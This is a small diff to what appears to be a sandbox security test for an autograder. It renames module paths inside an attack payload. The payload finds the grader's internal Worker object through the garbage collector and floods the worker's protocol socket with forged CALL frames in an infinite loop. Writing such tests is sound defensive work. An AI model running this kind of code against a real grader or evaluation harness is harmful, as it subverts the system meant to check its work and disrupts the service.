@@ -170,8 +170,8 @@ attack(
         import gc
         worker = next(o for o in gc.get_objects() if type(o).__name__ == 'Worker')
         modules = __import__('sys').modules
-        frames = modules['autograder.engine.worker.protocol.frames']
-        encoder = modules['autograder.engine.worker.protocol.encode'].Encoder(worker.function)
+        frames = modules['autograder.sandbox.worker.protocol.frames']
+        encoder = modules['autograder.sandbox.worker.protocol.encode'].Encoder(worker.function)
         encoder.value((function, (np.ones((2, 2)),), {}))
         while True: frames.send(worker.sock, frames.CALL, worker.nonce, bytes(encoder.out))
     """,
